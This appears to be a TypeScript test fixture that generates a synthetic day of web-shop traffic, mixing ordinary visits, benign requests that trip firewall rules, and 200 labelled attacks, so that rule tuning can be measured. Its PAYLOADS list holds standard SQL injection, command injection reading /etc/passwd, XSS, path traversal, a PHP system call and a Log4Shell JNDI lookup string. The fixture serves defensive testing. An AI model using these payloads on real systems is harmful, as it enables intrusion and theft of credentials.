/** A day of a shop: users, three false positives that many of them meet, and 200 attacks. Generated, and always the same. */
import type { Visit } from './promote-traffic.ts';

export const DAY_MILLIS = 86_400_000;
export const MORNING = Date.parse('2026-11-22T00:00:00.000Z');

const q = encodeURIComponent;

export const userAddress = (user: number): string =>
  `198.51.${100 + Math.floor(user / 200)}.${1 + (user % 200)}`;
const attackerAddress = (attacker: number): string => `203.0.113.${1 + attacker}`;

/** What users do that no rule minds. */
const plain = (user: number, turn: number): Omit<Visit, 'at' | 'isAttack'> =>
  [
    { source: userAddress(user), uri: '/' },
    { source: userAddress(user), uri: `/search?q=${q('a lamp for the desk')}` },
    { source: userAddress(user), uri: `/products/${turn}` },
    { source: userAddress(user), method: 'POST', uri: '/cart', body: `item=${turn}&count=1` },
  ][(user + turn) % 4] ?? { source: userAddress(user), uri: '/' };

/** The false positives, by name. */
export const FALSE_POSITIVES = {
  /** People who write about a shell, in a comment. 932235 or 942350, 5 points. */
  comment: (user: number, turn: number) => ({
    source: userAddress(user),
    method: 'POST',
    uri: `/posts/${100 + (turn % 30)}/comments`,
    body: `author=u${user}&comment=${q(turn % 2 === 0 ? 'it is time to ping me' : 'having trouble; select one from shelf where price < 10')}`,
  }),
  /** An editor of pages that sends HTML in JSON. */
  page: (user: number, turn: number) => ({
    source: userAddress(user),
    method: 'POST',
    uri: '/api/pages',
    body: JSON.stringify({
      title: 'sale',
      blocks: [{ html: 'hello' }, { html: `<a href="javascript: open(${turn})">x</a>` }],
    }),
  }),
  /** A field for a web hook, which users test with their own machine. 934110, 5 points. */
  hook: (user: number) => ({
    source: userAddress(user),
    method: 'POST',
    uri: '/settings/hooks',
    body: `url=${q('http://127.0.0.1:8080/hook')}`,
  }),
  /** The one that comes with a release in mid-move. 932130, 5 points. */
  snippet: (user: number) => ({
    source: userAddress(user),
    method: 'POST',
    uri: '/snippets',
    body: `code=${q('$(document).ready')}`,
  }),
} satisfies Readonly<Record<string, (user: number, turn: number) => Omit<Visit, 'at' | 'isAttack'>>>;

const PAYLOADS = [
  "' UNION SELECT username,password FROM users--",
  '1; cat /etc/passwd',
  '<script>alert(document.cookie)</script>',
  '../../../../etc/passwd',
  "<?php system('id'); ?>",
  '$' + '{jndi:ldap://x.example/a}',
  "1' AND SLEEP(5)#",
  '<img src=x onerror=alert(1)>',
] as const;

/** Attackers go everywhere, the fields of the false positives among it. */
const PLACES: readonly ((payload: string) => Pick<Visit, 'method' | 'uri' | 'body'>)[] = [
  (payload) => ({ uri: `/search?q=${q(payload)}` }),
  (payload) => ({ uri: `/products/1?id=${q(payload)}` }),
  (payload) => ({ method: 'POST', uri: '/login', body: `user=${q(payload)}&password=x` }),
  (payload) => ({ method: 'POST', uri: '/posts/107/comments', body: `author=x&comment=${q(payload)}` }),
  (payload) => ({ method: 'POST', uri: '/settings/hooks', body: `url=${q(payload)}` }),
  (payload) => ({ method: 'POST', uri: '/api/pages', body: JSON.stringify({ blocks: [{ html: payload }] }) }),
];

export function attacks(from: number, length: number, count = 200): readonly Visit[] {
  return Array.from({ length: count }, (_, at): Visit => {
    const place = PLACES[at % PLACES.length] ?? PLACES[0];
    const payload = PAYLOADS[Math.floor(at / PLACES.length) % PAYLOADS.length] ?? '';
    const found = place?.(payload) ?? { uri: '/' };
    const source = attackerAddress(Math.floor(at / 25));
    return { ...found, source, at: from + Math.floor(((at + 0.5) * length) / count), isAttack: true };
  });
}

export interface DayOptions {
  readonly from?: number;
  readonly length?: number;
  readonly attacks?: number;
  readonly meets?: readonly (keyof typeof FALSE_POSITIVES)[];
  readonly plain?: number;
  readonly each?: number;
}

/** In the order of time. */
export function day({
  from = MORNING,
  length = DAY_MILLIS,
  attacks: count = 200,
  meets = ['comment', 'page', 'hook'],
  plain: visits = 400,
  each = 60,
}: DayOptions = {}): readonly Visit[] {
  const spread = (number: number, of: number): number => from + Math.floor(((number + 0.25) * length) / of);
  const users = Array.from(
    { length: visits },
    (_, at): Visit => ({
      ...plain(at % 50, at),
      at: spread(at, visits),
      isAttack: false,
    }),
  );
  const mistaken = meets.flatMap((name) =>
    Array.from(
      { length: each },
      (_, at): Visit => ({
        ...FALSE_POSITIVES[name](at % 20, at),
        at: spread(at, each),
        isAttack: false,
      }),
    ),
  );
  return [...users, ...mistaken, ...attacks(from, length, count)].toSorted((a, b) => a.at - b.at);
}
